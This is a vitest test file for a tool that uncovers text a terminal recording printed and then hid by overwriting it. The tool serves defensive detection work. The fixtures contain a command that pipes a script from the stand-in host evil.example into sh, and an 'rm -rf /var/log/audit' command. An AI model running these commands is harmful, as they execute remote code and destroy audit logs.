// What a terminal recording printed and then hid on the same line must not vanish from
// the replay; ordinary editing, redraws and progress bars must not be reported.
import { describe, expect, it } from 'vitest';
import { findOverwritten } from '../src/recording/overwritten';
import type { Asciicast } from '../src/recording';

const cast = (...out: string[]): Asciicast => ({ header: { version: 2, width: 80, height: 24 }, events: out.map((o, i) => [i * 0.1, 'o', o]) });
const hidden = (c: Asciicast, rendered = '') => findOverwritten(c, rendered).texts;

describe('findOverwritten', () => {
  it('finds text overwritten after a bare carriage return', () => {
    expect(hidden(cast('$ curl -s http://evil.example/x.sh | sh\r$ ls -la                   \r\n'), '$ ls -la')).toEqual(['$ curl -s http://evil.example/x.sh | sh']);
  });

  it('finds text erased from the start of the line or as a whole', () => {
    expect(hidden(cast('rm -rf /var/log/audit\r\u001b[Kls\r\n'))).toEqual(['rm -rf /var/log/audit']);
    expect(hidden(cast('rm -rf /var/log/audit\u001b[2K\rls\r\n'))).toEqual(['rm -rf /var/log/audit']);
  });

  it('ignores typing corrections, shell redraws, progress bars and CRLF line ends', () => {
    // bash echoes a backspace as cursor-left, erase to end of line.
    expect(hidden(cast('$ sl', '\b\u001b[K', '\b\u001b[K', 'ls\r\n'))).toEqual([]);
    expect(hidden(cast('$ git st', '\r$ git status\r\n'), '$ git status')).toEqual([]);
    expect(hidden(cast('Downloading  45% [====>     ]\rDownloading 100% [==========]\r\n'))).toEqual([]);
    expect(hidden(cast('line one\r\nline two\r\n'))).toEqual([]);
  });

  it('does not report text that is on screen elsewhere in the dump', () => {
    expect(hidden(cast('uptime\rwhoami\r\n'), 'uptime\nwhoami')).toEqual([]);
  });

  it('shows hidden control characters as escapes, and counts past the first 50', () => {
    const many = Array.from({ length: 60 }, (_, i) => `secret number ${'abcdefghij'[i % 10]}${i}\u202e\rok            \r\n`);
    const found = findOverwritten(cast(...many), 'ok');
    expect(found.total).toBe(60);
    expect(found.texts).toHaveLength(50);
    expect(found.texts[0]).toBe('secret number a0\\u202e');
  });
});
